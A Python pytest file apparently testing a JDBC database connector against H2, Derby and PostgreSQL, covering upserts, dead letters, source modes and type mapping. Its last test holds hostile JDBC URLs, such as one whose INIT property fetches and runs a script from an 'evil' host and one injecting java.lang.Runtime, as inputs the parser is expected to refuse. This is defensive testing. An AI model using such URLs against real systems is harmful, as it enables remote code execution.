"""Databases by their JDBC driver jar: H2 and Derby (in memory), PostgreSQL with its Java driver, through JPype."""

from __future__ import annotations

import datetime
import decimal
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

import connect.jdbc
from connect.api.data import INT32_SCHEMA
from connect.api.errors import ConnectError
from connect.jdbc.drivers import connect as connect_to
from connect.jdbc.url import parse_url
from tests import facilities
from tests.connect.jdbc.databases import TestDatabase
from tests.connect.jdbc.harness import Sink, Source, column, values
from tests.connect.jdbc.test_sink import test_every_type_is_created_and_kept as _everything
from tests.connect.jdbc.test_sink import thing
from tools import interop

_numbers = iter(range(1000))


class H2Database(TestDatabase):
    """An H2 database in the memory of this process's JVM."""

    kind = "h2"
    user = None
    password = None

    def __init__(self, jars: list[str]) -> None:
        self.url = f"jdbc:h2:mem:test{next(_numbers)};DB_CLOSE_DELAY=-1"
        self.connection = connect_to(parse_url(self.url, jars=True), jars=jars)

    def execute(self, statement: str, *parameters: Any) -> None:
        self.connection.execute(statement.replace("%s", "\x00") if parameters else statement, parameters)
        self.connection.commit()

    def query(self, statement: str, *parameters: Any) -> list[tuple[Any, ...]]:
        found = self.connection.query(statement, parameters)
        self.connection.rollback()
        return found

    def close(self) -> None:
        self.connection.close()


@pytest.fixture
def jars(monkeypatch: pytest.MonkeyPatch) -> list[str]:
    facilities.require("jdbc-drivers")
    facilities.require("derby")
    # All of them: the process has one JVM, and its class path is made once.
    folders = [str(interop.jdbc_drivers_directory()), str(interop.derby_directory())]
    monkeypatch.setattr(connect.jdbc, "plugin_paths", folders)
    from connect.jdbc.common import driver_jars

    return driver_jars()


@pytest.fixture
def h2(jars: list[str]) -> Iterator[H2Database]:
    database = H2Database(jars)
    yield database
    database.close()


class DerbyDatabase(H2Database):
    kind = "derby"

    def __init__(self, jars: list[str]) -> None:
        self.url = f"jdbc:derby:memory:test{next(_numbers)};create=true"
        self.connection = connect_to(parse_url(self.url, jars=True), jars=jars)


@pytest.fixture
def derby(jars: list[str], tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Iterator[DerbyDatabase]:
    monkeypatch.chdir(tmp_path)  # Where Derby puts its log.
    database = DerbyDatabase(jars)
    yield database
    database.close()


UPSERT = {"insert.mode": "upsert", "pk.mode": "record_key", "pk.fields": "id", "auto.create": "true"}


def test_sink_into_h2(h2: H2Database) -> None:
    sink = Sink({**h2.config(), **UPSERT, "delete.enabled": "true", "auto.evolve": "true"}, dead_letters=True)
    sink.put(*[sink.record(thing(n, f"n{n}"), n, key_schema=INT32_SCHEMA) for n in range(30)])
    sink.put(
        sink.record(thing(3, "changed"), 3, key_schema=INT32_SCHEMA), sink.record(None, 4, key_schema=INT32_SCHEMA),
        sink.record(thing(5, "no key")),
    )  # fmt: skip
    found = h2.query("SELECT id, name FROM things ORDER BY id")
    assert len(found) == 29
    assert found[3] == (3, "changed")
    assert sink.reporter.offsets == [32]
    sink.stop()


def test_upserts_without_a_statement_for_them(derby: DerbyDatabase) -> None:
    """Derby has none: rows are updated, and inserted where there is nothing to update."""
    sink = Sink(
        {**derby.config(), **UPSERT, "delete.enabled": "true", "auto.evolve": "true"}, dead_letters=True
    )
    sink.put(*[sink.record(thing(n, f"n{n}"), n, key_schema=INT32_SCHEMA) for n in range(30)])
    sink.put(
        sink.record(thing(3, "changed"), 3, key_schema=INT32_SCHEMA), sink.record(thing(30, None), 30, key_schema=INT32_SCHEMA),
        sink.record(None, 4, key_schema=INT32_SCHEMA), sink.record(thing(5, "no key")),
    )  # fmt: skip
    sink.put(
        *[
            sink.record(thing(n, "x" * 40_000 if n == 7 else "again"), n, key_schema=INT32_SCHEMA)
            for n in range(6, 9)
        ]
    )
    found = dict(derby.query("SELECT id, name FROM things"))
    assert sorted(found) == [n for n in range(31) if n != 4]
    assert [found[n] for n in (2, 3, 6, 7, 8, 30)] == ["n2", "changed", "again", "n7", "again", None]
    assert sink.reporter.offsets == [33, 35]  # The record without a key, the value that is too long.
    sink.stop()
    keys_only = Sink({**derby.config(), **UPSERT, "fields.whitelist": "none"}, topic="numbers")
    for _ in range(2):
        keys_only.put(*[keys_only.record(thing(n), n, key_schema=INT32_SCHEMA) for n in range(3)])
    assert sorted(derby.query("SELECT id FROM numbers")) == [(0,), (1,), (2,)]
    keys_only.stop()


def test_source_from_derby(derby: DerbyDatabase) -> None:
    derby.execute(
        "CREATE TABLE items (id INT GENERATED ALWAYS AS IDENTITY PRIMARY KEY, v VARCHAR(20), n DECIMAL(9,2))"
    )
    for n in range(5):
        derby.execute(f"INSERT INTO items (v, n) VALUES ('v{n}', {n}.25)")
    source = Source(
        {**derby.config(), "mode": "incrementing", "table.whitelist": "ITEMS", "batch.max.rows": "2"}
    )
    found = values(source.read(5))
    assert found[4] == {"ID": 5, "V": "v4", "N": decimal.Decimal("4.25")}
    source.stop()


def test_one_bad_row_into_h2(h2: H2Database) -> None:
    h2.execute("CREATE TABLE things (id INT PRIMARY KEY, name VARCHAR(5))")
    sink = Sink(h2.config(), dead_letters=True)
    sink.put(*[sink.record(thing(n, "too long" if n == 77 else "ok")) for n in range(200)])
    assert sink.reporter.offsets == [77]
    assert h2.query("SELECT COUNT(*) FROM things") == [(199,)]
    sink.stop()


def test_every_type_in_h2(h2: H2Database) -> None:
    h2.execute(
        "CREATE TABLE items (id INT GENERATED BY DEFAULT AS IDENTITY PRIMARY KEY, b BOOLEAN, t TINYINT, big BIGINT, "
        "r REAL, d DOUBLE PRECISION, n NUMERIC(10,3), v VARCHAR(20), raw VARBINARY(10), dy DATE, tm TIME, ts TIMESTAMP(6), "
        "tz TIMESTAMP WITH TIME ZONE, u UUID, c CLOB)"
    )
    h2.execute(
        "INSERT INTO items VALUES (1, TRUE, -5, 9223372036854775807, 1.5, 2.5, 12.345, 'täxt', X'00ff', '2024-02-29', "
        "'12:34:56', '2024-02-29 12:34:56.123456', '2024-02-29 12:34:56+02', '0f0e0d0c-0b0a-0908-0706-050403020100', 'clob')"
    )
    h2.execute("INSERT INTO items (id) VALUES (2)")
    source = Source({**h2.config(), "mode": "incrementing", "table.whitelist": "ITEMS"})
    records = source.read(2)
    for record in records:
        record.value.validate()
    first, second = values(records)
    moment = datetime.datetime(2024, 2, 29, 12, 34, 56, 123456, tzinfo=datetime.UTC)
    assert first == {
        "ID": 1, "B": True, "T": -5, "BIG": 9223372036854775807, "R": 1.5, "D": 2.5, "N": decimal.Decimal("12.345"),
        "V": "täxt", "RAW": b"\x00\xff", "DY": datetime.date(2024, 2, 29), "TM": datetime.time(12, 34, 56),
        "TS": moment, "TZ": moment.replace(microsecond=0) - datetime.timedelta(hours=2),
        "U": "0f0e0d0c-0b0a-0908-0706-050403020100", "C": "clob",
    }  # fmt: skip
    assert [name for name, value in second.items() if value is not None] == ["ID"]
    source.stop()


@pytest.mark.parametrize("mode", ["incrementing", "timestamp", "timestamp+incrementing"])
def test_source_modes_in_h2(h2: H2Database, mode: str) -> None:
    h2.execute("CREATE TABLE items (id INT PRIMARY KEY, changed TIMESTAMP(3) NOT NULL)")
    for id in range(1, 8):
        h2.execute(f"INSERT INTO items VALUES ({id}, '2024-01-01 00:00:0{id // 2}')")
    config = {**h2.config(), "mode": mode, "table.whitelist": "items", "batch.max.rows": "3"}
    if "incrementing" in mode:
        config["incrementing.column.name"] = "id"
    if "timestamp" in mode:
        config["timestamp.column.name"] = "changed"
    stored: dict[str, Any] = {}
    seen: list[int] = []
    for _ in range(4):
        source = Source(config, stored)
        batch = source.poll()
        source.acknowledge(batch)
        seen += column(batch, "ID")
        source.stop()
        if len(seen) >= 7:
            break
    assert sorted(seen) == list(range(1, 8))


def test_the_java_driver_of_postgresql(postgres: TestDatabase, jars: list[str]) -> None:
    """dialect.name=jdbc takes the jar although there is a driver of our own; our dialect writes the SQL."""
    config = {**postgres.config(), "dialect.name": "jdbc"}
    sink = Sink({**config, **UPSERT})
    assert sink.task._database.url.driver == "jpype"
    sink.put(*[sink.record(thing(n % 20, f"n{n}"), n % 20, key_schema=INT32_SCHEMA) for n in range(50)])
    found = postgres.query("SELECT id, name FROM things ORDER BY id")
    assert found == [(n, f"n{n + 40 if n < 10 else n + 20}") for n in range(20)]
    sink.stop()
    source = Source(
        {**config, "mode": "incrementing", "incrementing.column.name": "id", "table.whitelist": "things"}
    )
    assert column(source.read(20), "id") == list(range(20))
    source.stop()


def test_every_type_by_the_java_driver_of_postgresql(postgres: TestDatabase, jars: list[str]) -> None:
    class ByJar(TestDatabase):
        kind = "postgresql"
        query = staticmethod(postgres.query)  # type: ignore[assignment]

        def config(self) -> dict[str, str]:
            return {**postgres.config(), "dialect.name": "jdbc"}

    _everything(ByJar())


def test_wrong_credentials_by_jar(postgres: TestDatabase, jars: list[str]) -> None:
    with pytest.raises(ConnectError, match=r"cannot connect to .*password authentication failed") as caught:
        Sink({**postgres.config(), "dialect.name": "jdbc", "connection.password": "hunter2"})
    assert "hunter2" not in str(caught.value)


def test_no_jar_for_the_subprotocol(jars: list[str]) -> None:
    with pytest.raises(ConnectError, match=r"no JDBC driver on plugin.path takes jdbc:acme:x.*org.h2.Driver"):
        Sink({"connection.url": "jdbc:acme:x", "connection.attempts": "1"})


def test_properties_that_run_code_are_refused(jars: list[str]) -> None:
    from connect.jdbc.url import UrlError

    for url in (
        "jdbc:h2:mem:x;INIT=RUNSCRIPT FROM 'http://evil/x.sql'",
        "jdbc:h2:mem:x;TRACE_LEVEL_FILE=3;init=x",
        "jdbc:acme://h/d?socketFactory=java.lang.Runtime",
    ):
        with pytest.raises(UrlError, match="is refused"):
            parse_url(url, jars=True)
